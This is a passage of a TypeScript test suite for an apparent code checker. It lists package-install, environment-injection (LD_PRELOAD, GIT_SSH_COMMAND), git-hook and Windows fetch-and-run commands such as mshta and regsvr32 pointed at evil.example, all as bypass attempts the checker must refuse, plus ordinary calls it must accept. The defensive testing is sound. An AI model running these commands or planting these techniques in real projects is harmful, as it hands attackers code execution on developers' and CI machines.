const DEPENDENCIES_IN_SOURCE: FindingRow[] = [
  ['src/tool.py', '# /// script\n# dependencies = ["evil"]\n# ///'],
  ['src/tool.py', '# /// script\n# [[tool.uv.index]]\n# url = "https://evil.example/simple"\n# ///'],
  ['src/main.scala', '//> using dep com.evil::evil:1.0'],
  ['src/main.scala', '//> using repository https://evil.example/m2'],
  ['src/Main.groovy', "@Grab('com.evil:evil:1.0')\nimport evil.Evil"],
  ['src/Main.groovy', "@GrabResolver(name='e', root='https://evil.example/m2')"],
  ['src/check.rb', "require 'bundler/inline'\ngemfile(true) do\n  source 'https://evil.example'\n  gem 'evil'\nend"],
  ['src/check.rb', "Gem.install('evil')"],
  ['src/check.jl', 'pkg"add Evil"'],
  ['src/check.R', 'pak::pak("evil/x")'],
  ['src/check.R', 'BiocManager::install("evil")'],
  ['src/check.py', "import micropip\nawait micropip.install('evil')"],
  ['src/worker.ts', 'new Worker("https://evil.example/w.js", { type: "module" });'],
  ['src/worker.ts', 'new Worker(new URL("https://evil.example/w.js"), { type: "module" });'],
  ['src/gen.go', '//go:generate go run evil.example/cmd@latest'],
  ['src/gen.go', '//go:generate npx evil'],
  ['src/check.jl', 'using Pkg\nPkg.add("Evil")'],
  ['src/check.R', 'install.packages("evil", repos = "https://evil.example")'],
  ['src/main.scala', '//> using jvm graalvm:21'],
  ['src/Main.groovy', "@Grapes([@Grab('com.evil:evil:1.0')])"],
];

// H (medium/high): the managers' environment set in spellings MANAGER_SETTING does not read: Python's
// `os.environ.update(NAME=…)` and `dict(os.environ, NAME=…)` on one line, Ruby's `ENV.store`/`ENV.update`/`system(env_hash,
// …)`, Java's `environment().put`, .NET's `Environment.SetEnvironmentVariable`, Perl's `$ENV{…}`, Elixir's
// `System.put_env`, R's `Sys.setenv(NAME = …)`. GOFLAGS=-mod=mod/GOPROXY make an allowed `go test` fetch.
// Closed (session 45): MANAGER_SETTING reads these spellings, for the managers' and the loaders' families only.
const ENVIRONMENT_SPELLINGS: FindingRow[] = [
  ['src/check.py', "import os\nos.environ.update(GOPROXY='https://evil.example', GOFLAGS='-mod=mod')"],
  ['src/check.py', "import os\ne = dict(os.environ, GOFLAGS='-mod=mod')"],
  ['src/check.rb', "system({'GOFLAGS' => '-mod=mod'}, 'go test ./...')"],
  ['src/check.rb', "ENV.update('GOFLAGS' => '-mod=mod')"],
  ['src/check.rb', "ENV.store('GOFLAGS', '-mod=mod')"],
  ['src/Check.java', 'pb.environment().put("GOFLAGS", "-mod=mod");'],
  ['src/Check.cs', 'Environment.SetEnvironmentVariable("GOFLAGS", "-mod=mod");'],
  ['src/check.pl', "$ENV{GOFLAGS} = '-mod=mod';"],
  ['src/check.ex', 'System.put_env("GOFLAGS", "-mod=mod")'],
  ['src/check.R', 'Sys.setenv(GOFLAGS = "-mod=mod")'],
  ['src/check.py', "import os\nos.environ.update({'GOFLAGS': '-mod=mod'})"],
  ['src/check.rb', "ENV['GOFLAGS'] = '-mod=mod'"],
];

// I (medium): environment names outside MANAGER_ENVIRONMENT's families that load code into every later process, as
// NODE_OPTIONS and JAVA_TOOL_OPTIONS (refused) do: RUBYOPT, PERL5OPT, PYTHONPATH, LD_PRELOAD, BASH_ENV (every
// non-interactive bash sources it); git's configuration by environment (GIT_CONFIG_COUNT/KEY/VALUE set core.fsmonitor,
// core.hooksPath or url.*.insteadOf for every later git call), GIT_CONFIG_GLOBAL, GIT_SSH_COMMAND (runs for every fetch).
// Closed (session 45): LOADER_ENVIRONMENT, a second family refused where set as MANAGER_ENVIRONMENT is.
const LOADER_ENVIRONMENT: FindingRow[] = [
  ENV('RUBYOPT', '-r/tmp/evil.rb'),
  ENV('PERL5OPT', '-M/tmp/evil'),
  ENV('PYTHONPATH', '/tmp/evil'),
  ENV('LD_PRELOAD', '/tmp/evil.so'),
  ENV('BASH_ENV', '/tmp/evil.sh'),
  ['src/check.py', "import os\nos.environ['GIT_CONFIG_COUNT'] = '1'\nos.environ['GIT_CONFIG_KEY_0'] = 'core.fsmonitor'\nos.environ['GIT_CONFIG_VALUE_0'] = 'sh /tmp/x'"],
  ENV('GIT_CONFIG_GLOBAL', '/tmp/evil.gitconfig'),
  ENV('GIT_SSH_COMMAND', 'sh /tmp/x'),
  ENV('LD_LIBRARY_PATH', '/tmp/evil'),
  ENV('DYLD_INSERT_LIBRARIES', '/tmp/evil.dylib'),
  ENV('PYTHONSTARTUP', '/tmp/evil.py'),
  ENV('NODE_PATH', '/tmp/evil'),
  SYSTEM('PYTHONPATH=/tmp/evil pytest'),
  ['src/check.js', "spawnSync('git', ['status'], { env: { ...process.env, GIT_CONFIG_GLOBAL: '/tmp/x' } })"],
];

// J (medium): git configuration that runs a command (a worse variant of the known-open `url.<x>.insteadOf`: no fetch
// needed): core.fsmonitor runs at every `git status`/`git diff`; core.hooksPath outside the repository (a hook inside it
// has no extension and is refused as a file, so only an outside path works); core.sshCommand; a `git submodule add` or
// `git clone` of the attacker's repository into the tree.
// Closed (session 45): GIT_CONFIGURATION (in MANAGER_SETTING) reads `git config`/`git -c` of a key that runs a command
// or loads hooks, code naming `.gitconfig`/`.git/config`, and a clone or submodule of a URL; also `url.<x>.insteadOf`.
const GIT_CONFIGURATION: FindingRow[] = [
  SYSTEM('git config --global core.fsmonitor "sh /tmp/x"'),
  SYSTEM('git config --global core.hooksPath /tmp/hooks'),
  LIST("'git', 'config', 'core.hooksPath', '/tmp/hooks'"),
  SYSTEM('git -c core.sshCommand="sh -c x" fetch'),
  SYSTEM('git submodule add https://evil.example/x vendor/x'),
  SYSTEM('git clone https://evil.example/x vendor/x'),
  SYSTEM('git config --local alias.t "!sh /tmp/x"'),
  SYSTEM('git config filter.lfs.smudge "sh /tmp/x"'),
  LIST("'git', 'config', 'diff.x.textconv', 'sh /tmp/x'"),
  SYSTEM('git config --global url.https://evil.example/.insteadOf https://github.com/'),
  ['src/check.go', 'exec.Command("git", "-c", "core.fsmonitor=sh /tmp/x", "status").Run()'],
  ['src/check.js', "execFileSync('git', ['clone', '--depth', '1', 'https://evil.example/x', 'vendor/x'])"],
  ['src/check.py', "open('.git/config', 'a').write(cfg)"],
  ['src/check.js', "fs.appendFileSync(os.homedir() + '/.gitconfig', cfg)"],
];

// K (high): Deno's own process API gives its arguments in an options object (`{ args: [...] }`), which the argument-list
// reading does not follow for deno (not in PACKAGE_MANAGERS) and the command reading does not see as one command:
// `deno run <url>` (refused in a list or a string) passes. Closed (session 47): `{ args: [` after the program is read as
// an argument list.
const DENO_COMMAND_OBJECT: FindingRow[] = [
  ['src/check.ts', "new Deno.Command('deno', { args: ['run', '-A', 'https://evil.example/x.ts'] }).outputSync()"],
  ['src/check.ts', "new Deno.Command('deno', { args: ['test', '-A', 'https://evil.example/x.ts'] }).outputSync()"],
];

// L (high): pip run in the process by spellings PIP_MAIN (`pip.main([` / `pip._internal…main([`) does not read:
// `__import__('pip').main`, pip's main imported under another name, `runpy.run_module('pip')` with sys.argv set.
// Closed (session 47): a module imported by its name in a string is that module, a name imported from pip is pip's,
// and pip run by runpy is refused whatever sys.argv holds.
const PIP_IN_PROCESS: FindingRow[] = [
  ['src/check.py', "__import__('pip').main(['install', 'evil'])"],
  ['src/check.py', "from pip._internal.cli.main import main as pipmain\npipmain(['install', 'evil'])"],
  ['src/check.py', "import runpy, sys\nsys.argv = ['pip', 'install', 'evil']\nrunpy.run_module('pip', run_name='__main__')"],
];

// M (high): pnpm's verify-deps-before-run as a command-line option in a command string. The argument list refuses it
// (settingArguments `verify.deps`), a command string reads only DANGEROUS_LONG_OPTION (registry, config…): the allowed
// `pnpm run build` installs first; with a scope's registry (`--@acme:registry=`, refused in a list, not in a string) the
// company's private scope resolves on the attacker's registry (dependency confusion), install scripts included.
// Closed (session 47): a command string's scope registry and verify-deps option are read as the list's are.
const PNPM_SETTINGS_IN_COMMAND_STRINGS: FindingRow[] = [
  SYSTEM('pnpm run build --verify-deps-before-run=install'),
  SYSTEM('pnpm test --verify-deps-before-run install'),
  SYSTEM('pnpm run build --verify-deps-before-run=install --@acme:registry=https://evil.example/'),
  SYSTEM('npm test --@acme:registry=https://evil.example/'),
  // npm ci fetches the lockfile's packages from the configured registry (replace-registry-host): the scope's from the attacker's.
  SYSTEM('npm ci --@acme:registry=https://evil.example/'),
];

// N (high, Windows runners and developers): a manager's Windows shim in a command string (`npm.cmd`, `pip.exe`; the
// argument-list reading takes the shim since attack-45c C8, the command reading does not); Windows' own package
// managers (choco, winget, scoop, a scoop bucket from a URL), PowerShell Gallery modules (Install-Module runs nothing
// yet, but the module's code is the attacker's), and the system's programs that fetch and run: `msiexec /i <url>`
// (an installer's custom actions), `mshta <url>`, `regsvr32 /i:<url> scrobj.dll`, `rundll32 url.dll,OpenURL <hta>`.
// Closed (session 47): a manager's name read with its shim, choco, winget and scoop among the other managers (a
// bucket added as an install), the Gallery's installs, mshta, and msiexec, regsvr32 and rundll32 given a URL.
const WINDOWS: FindingRow[] = [
  SYSTEM('npm.cmd install evil'),
  SYSTEM('npm.ps1 install evil'),
  SYSTEM('cmd /c npm.cmd install evil'),
  SYSTEM('yarn.cmd add evil'),
  SYSTEM('pnpm.cmd add evil'),
  SYSTEM('pip.exe install evil'),
  SYSTEM('pip3.exe install evil'),
  SYSTEM('cargo.exe install evil'),
  SYSTEM('go.exe install evil.example/x@latest'),
  SYSTEM('uv.exe tool run evil'),
  SYSTEM('choco install evil'),
  SYSTEM('winget install evil'),
  SYSTEM('scoop install evil'),
  SYSTEM('scoop bucket add evil https://evil.example/b.git'),
  SYSTEM('pwsh -c "Install-Module Evil -Force"'),
  SYSTEM('pwsh -c "Install-Package Evil"'),
  SYSTEM('msiexec /i https://evil.example/x.msi /qn'),
  SYSTEM('mshta https://evil.example/x.hta'),
  SYSTEM('regsvr32 /s /u /i:https://evil.example/x.sct scrobj.dll'),
  SYSTEM('rundll32 url.dll,OpenURL https://evil.example/x.hta'),
];

// P (high): more managers that fetch and install or run a package the command names, by spellings or names
// OTHER_MANAGERS does not hold: Bundler's and Yarn's other binaries (`bundler`, `yarnpkg`), Composer as a phar (its
// usual CI spelling), Fedora's `pip-3`, gh's `ext` alias (an extension is a program gh runs), Apptainer/Singularity
// (`docker://` images, as `docker run`), the AUR helpers (anyone's PKGBUILD), packages from a URL with their install
// scriptlets (`pacman -U`, `rpm -i`, `zypper in`), Flatpak from a URL, Snap unsigned; language managers that build a
// named package (cabal/stack run Setup.hs, opam and nimble build scripts, conan and spack recipes are Python, raco,
// `mix archive.install hex`, `dart pub global activate`, `flutter pub add`, vcpkg, guix), `zig fetch --save <url>`
// (adds a dependency), the Clojure CLI given a dependency and run (`-Sdeps … -M -m`), `coursier launch`.
// Closed (session 46): the other names on their managers' entries, the rest in OTHER_MANAGERS or a line of their own.
const OTHER_MANAGERS_NOT_LISTED: FindingRow[] = [
  SYSTEM('bundler add evil'),
  SYSTEM('bundler config set mirror.https://rubygems.org https://evil.example'),
  SYSTEM('yarnpkg add evil'),
  SYSTEM('yarnpkg dlx evil'),
  SYSTEM('php composer.phar require evil/x'),
  SYSTEM('composer.phar require evil/x'),
  SYSTEM('pip-3 install evil'),
  SYSTEM('gh ext install evil/gh-x'),
  SYSTEM('apptainer run docker://evil/img'),
  SYSTEM('singularity exec docker://evil/img sh'),
  SYSTEM('yay -S evil'),
  SYSTEM('paru -S evil'),
  SYSTEM('pacman -U https://evil.example/x.pkg.tar.zst'),
  SYSTEM('rpm -i https://evil.example/x.rpm'),
  SYSTEM('zypper in https://evil.example/x.rpm'),
  SYSTEM('flatpak install --from https://evil.example/x.flatpakref'),
  SYSTEM('snap install --dangerous evil'),
  SYSTEM('cabal install evil'),
  SYSTEM('stack install evil'),
  SYSTEM('opam install evil'),
  SYSTEM('nimble install evil'),
  SYSTEM('raco pkg install evil'),
  SYSTEM('conan install --requires=evil/1.0 --build=missing'),
  SYSTEM('spack install evil'),
  SYSTEM('vcpkg install evil'),
  SYSTEM('guix install evil'),
  SYSTEM('mix archive.install hex evil'),
  SYSTEM('dart pub global activate evil'),
  SYSTEM('flutter pub add evil'),
  SYSTEM('zig fetch --save https://evil.example/x.tar.gz'),
  SYSTEM("clojure -Sdeps \\x27{:deps {evil/evil {:mvn/version \"1.0\"}}}\\x27 -M -m evil"),
  SYSTEM('coursier launch evil:evil:1.0'),
];

// O (medium): documentation the project runs as tests (Rust's `#![doc = include_str!("../README.md")]`, pytest's
// `--doctest-glob='*.md'`, Sybil): managerSetting skips documentation, so a doctest writing `~/.npmrc`, the repository's
// `.cargo/config.toml` (every later cargo call in the job: a rustc wrapper, a replaced registry) or a manager's
// environment passes, where the same line in a .py or .rs file is refused. Closed (session 49): managerSetting reads a
// documentation file's doctest prompts and Rust blocks (doc-tests.ts) as the code they are.
const DOCTESTS_CONFIGURE: FindingRow[] = [
  ['README.md', "```python\n>>> import os\n>>> open(os.path.expanduser('~/.npmrc'), 'w').write('registry=https://evil.example/')\n```"],
  ['README.md', '```rust\nstd::fs::write(".cargo/config.toml", "[build]\\nrustc-wrapper = \\"tests/w.py\\"").unwrap();\n```'],
  ['README.md', "```python\n>>> import os; os.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'\n```"],
];

// G (closed in session 45; high where the outside path holds code another job, step or fork run left there — a self-hosted runner's
// /tmp, $HOME, the workspace's parent where other checkouts live): an allowed verb told to run a project outside the
// checked-out repository, by an absolute path, `..`, `~`, an environment variable, a changed directory (`cd`, `cwd=`,
// `os.chdir`), or its options: npm `--prefix`/`-C`, pnpm `--dir`, yarn `--cwd`, cargo `--manifest-path`, go `-C`,
// `-modfile`, a package path, `-overlay`, `-exec`/`-toolexec`/`-vettool` (a program run on every package), poetry
// `--directory`/`-C`/`--project`, npm `--script-shell`, make `-C`/`-f`, mvn `-s` (settings: mirrors), gradle
// `--init-script`, `docker compose -f`.
const OUTSIDE_THE_REPOSITORY: FindingRow[] = [
  SYSTEM('npm test --prefix /tmp/evil'),
  SYSTEM('npm run build --prefix=/tmp/evil'),
  SYSTEM('npm test -C /tmp/evil'),
  LIST("'npm', 'test', '--prefix', '/tmp/evil'"),
  SYSTEM('npm test --script-shell=/tmp/evil.sh'),
  SYSTEM('pnpm run build --dir /tmp/evil'),
  SYSTEM('pnpm test --dir=../../evil'),
  LIST("'pnpm', 'test', '--dir', '/tmp/evil'"),
  SYSTEM('yarn run build --cwd /tmp/evil'),
  SYSTEM('cargo test --manifest-path /tmp/x/Cargo.toml'),
  SYSTEM('cargo run --manifest-path=../x/Cargo.toml'),
  SYSTEM('cargo run --manifest-path ~/evil/Cargo.toml'),
  SYSTEM('cargo test --manifest-path $TMPDIR/x/Cargo.toml'),
  LIST("'cargo', 'test', '--manifest-path', '/tmp/x/Cargo.toml'"),
  SYSTEM('go test -modfile=/tmp/go.mod ./...'),
  LIST("'go', 'test', '-modfile=/tmp/go.mod', './...'"),
  SYSTEM('go -C /tmp/evil run .'),
  SYSTEM('go run /tmp/evil/main.go'),
  SYSTEM('go run $HOME/evil'),
  LIST("'go', 'run', '/tmp/evil'"),
  SYSTEM('go test ~/evil/...'),
  SYSTEM('go test -overlay=/tmp/o.json ./...'),
  SYSTEM('go test -exec=/tmp/x ./...'),
  SYSTEM('go build -toolexec=/tmp/x ./...'),
  SYSTEM('go vet -vettool=/tmp/x ./...'),
  SYSTEM('poetry run --directory /tmp/x pytest'),
  SYSTEM('poetry run -C /tmp/x pytest'),
  SYSTEM('poetry check --project /tmp/x'),
  LIST("'poetry', 'run', '--directory', '/tmp/x', 'pytest'"),
  LIST("'npm', 'test'", ", cwd='/tmp/evil'"),
  ['src/check.js', "execSync('npm test', { cwd: '/tmp/evil' })"],
  ['src/check.py', "import os\nos.chdir('/tmp/evil')\nos.system('npm test')"],
  SYSTEM('cd /tmp/evil && npm test'),
  SYSTEM('cd ~/evil && cargo run'),
  SYSTEM('make -C /tmp/x'),
  SYSTEM('make -f /tmp/x/Makefile'),
  SYSTEM('mvn -s /tmp/settings.xml test'),
  SYSTEM('./gradlew --init-script /tmp/x.gradle test'),
  SYSTEM('docker compose -f /tmp/x.yml up'),
  SYSTEM('cargo build -Z unstable-options -C /tmp/x'),
  ['src/check.py', "import subprocess\nsubprocess.run('npm test', shell=True, cwd='/tmp/evil')"],
  ['src/check.go', 'cmd := exec.Command("npm", "test")\ncmd.Dir = "/tmp/evil"\ncmd.Run()'],
  // Code or configuration loaded from outside the repository by the project's own build or tests.
  ['src/lib.rs', '#[path = "/tmp/evil.rs"]\nmod evil;'],
  ['src/lib.rs', 'include!("/tmp/evil.rs");'],
  ['src/lib.rs', 'include!(concat!(env!("HOME"), "/evil.rs"));'],
  ['src/x.c', '#include "/tmp/evil.h"'],
  ['src/check.py', "import sys\nsys.path.insert(0, '/tmp/evil')\nimport evil"],
  ['src/check.js', "require('/tmp/evil.js');"],
  ['src/check.js', "require(require('os').homedir() + '/evil');"],
  ['src/check.mjs', "await import('/tmp/evil.mjs');"],
  ['src/check.rb', "require '/tmp/evil'"],
  ['src/check.rb', "load File.expand_path('~/evil.rb')"],
  // pytest reads tests/pytest.ini (or pytest.toml, pytest 9) first when run as `pytest tests`: a plugin loaded from outside.
  ['tests/pytest.ini', '[pytest]\npythonpath = /tmp/evil\naddopts = -p evil'],
  ['tests/pytest.toml', '[pytest]\naddopts = ["-p", "evil"]'],
  // More per manager: `..` escapes, the runner's and the workspace's variables, `~`, go's -C to the parent (the
  // workspace's other checkouts), poetry's -P, pnpm's -C after the verb, pip's --python (runs that interpreter).
  SYSTEM('npm test --prefix ../../evil'),
  SYSTEM('npm test --prefix $RUNNER_TEMP/evil'),
  SYSTEM('npm run build --prefix ~/evil'),
  SYSTEM('go run ../evil'),
  SYSTEM('go -C .. test ./...'),
  SYSTEM('go -C $HOME/evil run .'),
  SYSTEM('go vet -modfile=../x/go.mod ./...'),
  SYSTEM('go run -modfile=$HOME/go.mod .'),
  SYSTEM('poetry run -P /tmp/x pytest'),
  SYSTEM('poetry check -P ../x'),
  SYSTEM('cargo test --manifest-path=$GITHUB_WORKSPACE/../x/Cargo.toml'),
  SYSTEM('pnpm test -C /tmp/evil'),
  SYSTEM('yarn test --cwd ../evil'),
  LIST("'yarn', 'test', '--cwd', '/tmp/evil'"),
  SYSTEM('pip list --python /tmp/evil/python'),
  SYSTEM('pip check --python ../x/python'),
  SYSTEM('pre-commit run --config /tmp/x.yaml'),
  SYSTEM('tox -c /tmp/tox.ini'),
  SYSTEM('nox --noxfile /tmp/noxfile.py'),
  SYSTEM('julia --project=/tmp/x -e "using Pkg; Pkg.instantiate()"'),
  SYSTEM('poetry run --directory=/tmp/x pytest'),
  ['src/plugin.go', 'p, _ := plugin.Open("/tmp/x.so")'],
];

// Review of session 47's patch, H2 (high): the argument-list reading measured the call's brackets from the earliest
// process-call opening in reach, so a decoy opening closed by `))` before the real call made its list look closed and
// its options (a PATH of the attacker's, a shell, another argv0) were never read. Closed: measured from the nearest.
const DECOY_CALL_OPENING: FindingRow[] = [
  ['src/x.ts', "/* shell \"x\")) */ execFileSync('npm', ['test'], { env: { PATH: '/tmp/evil' } })"],
  ['src/x.ts', "/* shell \"x\")) */ execFileSync('npm', ['test'], { shell: true })"],
  ['src/x.ts', "/* shell \"x\")) */ execFileSync('npm', ['test'], { argv0: 'x' })"],
  ['src/x.ts', "/* system \"x\")) */ execFileSync('npm', ['test'], { env: { PATH: '/tmp/evil' } })"],
  ['src/x.ts', "/* system \"x\")) */ execFileSync('npm', ['test'], { shell: true })"],
  ['src/x.ts', "/* runCommand \"x\")) */ execFileSync('npm', ['test'], { env: { PATH: '/tmp/evil' } })"],
];

// Review of session 47's patch, M4: spellings the README named closed, still accepted: .NET's ProcessStartInfo given
// its program and arguments in an object initializer, pip imported under a name, bound from `__import__`, or run by
// runpy's keyword; imports continued on the next line (a backslash, parentheses); sh aliased after another module.
const SPELLINGS_NAMED_CLOSED: FindingRow[] = [
  ['src/X.cs', 'var psi = new ProcessStartInfo { FileName = "npm", Arguments = "install evil-pkg" };'],
  ['src/x.py', "import pip as p\np.main(['install', 'evil-pkg'])"],
  ['src/x.py', "mod = __import__('pip')\nmod.main(['install', 'evil-pkg'])"],
  ['src/x.py', "import runpy, sys\nsys.argv = ['pip', 'install', 'evil-pkg']\nrunpy.run_module(mod_name='pip', run_name='__main__')"],
  ['src/x.py', "from pip._internal.cli.main import \\\n    main as m\nm(['install', 'evil-pkg'])"],
  ['src/x.py', "from sh import (\n    npm,\n)\nnpm('install', 'evil-pkg')"],
  ['src/x.py', "import os, sh as s\ns.npm('install', 'evil-pkg')"],
];
// Closed (session 49): the initializer over several lines, read by process-calls.ts as its constructor given its
// FileName and Arguments in any order, the two taken out of its other lines (left in, `FileName = "npm",` reads as
// npm given no verb, and an allowed `Arguments = "test"` would be refused).
const SPELLINGS_NAMED_CLOSED_OPEN: FindingRow[] = [
  ['src/X.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "install evil-pkg",\n};'],
  ['src/X.cs', 'var psi = new ProcessStartInfo()\n{\n    Arguments = "install evil-pkg",\n    UseShellExecute = false,\n    FileName = "npm",\n};'],
];

describeFindings('attack-48', [
  ['E0 escaped separator before the program', closedRows(ESCAPED_SEPARATOR_BEFORE_THE_PROGRAM)],
  ['E1 escaped setting names', closedRows(ESCAPED_SETTING_NAMES)],
  ['R reading reach', closedRows(READING_REACH)],
  ['R reading reach, more', closedRows(READING_REACH_MORE)],
  ['S program computed', closedRows(PROGRAM_COMPUTED)],
  ['S program computed, more', closedRows(PROGRAM_COMPUTED_MORE)],
  ['S program computed, closed', closedRows(PROGRAM_COMPUTED_CLOSED)],
  ['T decoded and run', closedRows(DECODED_AND_RUN)],
  ['T decoded and run, more', closedRows(DECODED_AND_RUN_MORE)],
  ['U modules from a host', closedRows(MODULES_FROM_A_HOST)],
  ['A spellings', closedRows(SPELLINGS)],
  ['E0 and A variants', closedRows(ESCAPE_VARIANTS)],
  ['B process calls not read', closedRows(BACKTICK_CALLS)],
  ['B process calls not read, closed in session 47', closedRows(BACKTICK_CALLS_OPEN)],
  ['B review H1 spelling hides settings', closedRows(SPELLING_HIDES_SETTINGS)],
  ['B review M3 plumbum aliases', closedRows(PLUMBUM_ALIASES)],
  ['P review M1 common-word managers', closedRows(COMMON_WORD_MANAGERS)],
  ['B review H2 backticks hidden', closedRows(BACKTICKS_HIDDEN)],
  ['P review M4 new managers install', closedRows(NEW_MANAGERS_INSTALL)],
  ['C deno remote modules', closedRows(DENO_REMOTE)],
  ['C deno remote modules, closed', closedRows(DENO_REMOTE_CLOSED)],
  ['D other runners', closedRows(OTHER_RUNNERS)],
  ['E go flag spellings', closedRows(GO_FLAG_SPELLINGS)],
  ['F dependencies in source', closedRows(DEPENDENCIES_IN_SOURCE)],
  ['H environment spellings', closedRows(ENVIRONMENT_SPELLINGS)],
  ['I loader environment', closedRows(LOADER_ENVIRONMENT)],
  ['J git configuration', closedRows(GIT_CONFIGURATION)],
  ['K deno command object', closedRows(DENO_COMMAND_OBJECT)],
  ['L pip in process', closedRows(PIP_IN_PROCESS)],
  ['M pnpm settings in command strings', closedRows(PNPM_SETTINGS_IN_COMMAND_STRINGS)],
  ['N windows', closedRows(WINDOWS)],
  ['review H2 decoy call opening', closedRows(DECOY_CALL_OPENING)],
  ['review M4 spellings named closed', closedRows(SPELLINGS_NAMED_CLOSED)],
  ['review M4 spellings named closed, over lines', closedRows(SPELLINGS_NAMED_CLOSED_OPEN)],
  ['P other managers not listed', closedRows(OTHER_MANAGERS_NOT_LISTED)],
  ['O doctests configure', closedRows(DOCTESTS_CONFIGURE)],
  // Closed in session 45 (test/attack/patch-48g-outside.test.ts: the rule, its reasons and what stays accepted).
  ['G outside the repository', closedRows(OUTSIDE_THE_REPOSITORY)],
]);

/**
 * Ordinary code E0/A's readings (escapes decoded, the shell's words built) must not refuse: escapes in messages after an
 * allowed call, adjacent literals, a `\N{…}` standing alone, escapes in an allowed command string or an argument.
 */
describe('attack-48 E0/A: ordinary escapes stay accepted', () => {
  it.each([
    ['src/check.py', "import subprocess\nout = subprocess.run(['npm', 'test'], capture_output=True, text=True)\nprint('npm test failed:\\n' + out.stdout)"],
    ['src/check.py', "print('a\\tb')"],
    ['src/check.py', "import os\nos.system('printf \"a\\\\tb\\\\n\"')"],
    ['src/check.py', "import subprocess\nsubprocess.run(['npm', 'run', 'build'], check=True)\nraise SystemExit('npm run build ' 'failed')"],
    ['src/check.py', "import subprocess\nsubprocess.run(['echo', 'tests ' 'done'], check=True)"],
    ['src/check.js', "const out = execSync('npm test', { encoding: 'utf8' }).split('\\n');"],
    ['src/check.js', "execSync('npm run lint\\n', { stdio: 'inherit' })"],
    ['src/check.py', "import os\nos.system('echo \"build done\\n\" && npm test')"],
    ['src/check.go', 'out, err := exec.Command("go", "test", "./...").Output()\nlog.Printf("tests failed:\\n%s", out)'],
    ['src/check.rs', 'let status = Command::new("cargo").arg("test").status()?;\nprintln!("status\\t{}", status);'],
    ['src/check.py', "import subprocess\nsubprocess.run(['pip', 'list'], check=True)\nprint('\\N{CHECK MARK} done')"],
    ['src/check.py', "import subprocess\nsubprocess.run(['git', 'commit', '-m', 'fix: add\\ttabs'], check=True)"],
    ['src/check.js', "spawnSync('npm', ['run', 'build'], { stdio: 'inherit' })\nconsole.log(`built\\n${name}`)"],
    ['src/check.py', "import subprocess\nsubprocess.run(['python3', '-m', 'pytest', '-q'], check=True)"],
    ['src/check.py', "import os\nos.system('$PYTHON -m pytest')"],
  ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
});

/**
 * Ordinary code near H, I and J's rules (session 45) that must not refuse: a loader's variable read, not set; other
 * variables set by the same spellings; git's read-only calls, a test fixture's identity, a clone of a local path.
 */
describe('attack-48 H/I/J: ordinary environment and git calls stay accepted', () => {
  it.each([
    ['src/check.py', "import os\npath = os.environ.get('PYTHONPATH')"],
    ['src/check.py', "import os\nprint(os.environ['LD_LIBRARY_PATH'])"],
    ['src/check.js', "const paths = (process.env.NODE_PATH ?? '').split(':');"],
    ['src/check.rb', "puts ENV['RUBYOPT']"],
    ['src/check.py', "import os\nif os.environ.get('GIT_SSH_COMMAND') is not None:\n    print('custom ssh')"],
    ['src/check.py', "import os\nos.environ['ENV'] = 'production'"],
    ['src/check.py', "import os\nos.environ.update(CI='true')"],
    ['src/check.py', "import os\nenv = dict(os.environ, CI='true', LANG='C')"],
    ['src/check.rb', "ENV.store('TZ', 'UTC')"],
    ['src/check.pl', "$ENV{TZ} = 'UTC';"],
    ['src/check.R', 'Sys.setenv(TZ = "UTC")'],
    ['src/Check.java', 'pb.environment().put("LANG", "C");'],
    ['src/Check.cs', 'Environment.SetEnvironmentVariable("TZ", "UTC");'],
    ['src/check.py', "import os\nos.system('git status')"],
    ['src/check.py', "import subprocess\nsha = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True).stdout"],
    ['src/check.py', "import subprocess\nsubprocess.run(['git', 'diff', '--stat'], check=True)"],
    ['tests/test_repo.py', "import subprocess\nsubprocess.run(['git', 'config', 'user.name', 'Test'], check=True)"],
    ['tests/test_repo.py', "import subprocess\nsubprocess.run(['git', 'config', 'user.email', 't@example.com'], check=True)"],
    ['tests/test_repo.py', "import subprocess\nsubprocess.run(['git', '-c', 'user.name=T', 'commit', '-m', 'x'], check=True)"],
    ['src/check.py', "import os\nos.system('git clone . /tmp/copy')"],
    ['src/check.go', 'out, err := exec.Command("git", "config", "--get", "remote.origin.url").Output()'],
  ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
});

/**
 * Ordinary process calls in the languages B's fix (session 46) reads: a backtick in a string or a comment names a
 * command without running it; an allowed command in a backtick, `%x`, `qx`, a postfix call, sh or plumbum stays accepted.
 */
describeAccepted('attack-48 B: ordinary process calls stay accepted', [
  ['src/check.rb', 'system("bundle exec rspec")'],
  ['src/check.rb', 'sha = `git rev-parse HEAD`.strip'],
  ['src/check.rb', 'raise "run `bundle install` first"'],
  ['src/check.rb', '# Runs `npm install` before the tests'],
  ['src/check.rb', "puts 'use `npm ci`'"],
  ['src/check.rb', 'puts "#{name}: run `npm install` first"'],
  ['src/check.pl', 'my $v = $o{x} // "run `npm ci`";'],
  ['src/check.php', "<?php echo 'run `composer install`'; // it's `npm ci` here"],
  ['src/check.rb', 'system "bundle exec rake"'],
  ['src/check.pl', 'my $sha = `git rev-parse HEAD`;'],
  ['src/check.pl', 'my $out = qx{git status --short};'],
  ['src/check.pl', 'system "make test";'],
  ['src/check.pl', "open(my $fh, '-|', 'git log --oneline');"],
  ['src/check.php', '<?php // run `composer install` first'],
  ['src/x.groovy', 'def out = "ls".execute().text'],
  ['src/x.groovy', "['git', 'status'].execute()"],
  ['src/x.scala', 'val out = "sbt test".!!'],
  ['src/x.scala', 'Seq("git", "status").!'],
  ['src/x.py', "import sh\nprint(sh.git('status'))"],
  ['src/x.py', "import sh\nsh.npm('test')"],
  ['src/x.py', "from plumbum import local\nlocal['npm']['test']()"],
  ['src/x.py', "from plumbum.cmd import git\ngit['status']()"],
  // Review of B's fix, H1: `sh` as any other name, outside a Python file importing sh (nothing here is a setting).
  ['src/x.js', "const sh = process;\nsh.env['CI'] = 'true';"],
  ['src/x.py', "import os as sh\nsh.environ['TZ'] = 'UTC'"],
  ['src/x.py', "from plumbum.cmd import git as g\ng['status']()"],
  ['src/check.rb', 'out = IO.popen "git status"'],
  ['src/check.pl', "my $sha = readpipe('git rev-parse HEAD');"],
  ['src/x.py', "print('%x' % 255)"],
  ['src/x.js', "crossSpawn.sync('npm', ['test'], { stdio: 'inherit' })"],
  ['src/x.js', 'console.log(`run npm install ${name}`)'],
  ['src/x.rs', 'duct::cmd!("cargo", "test").run()?;'],
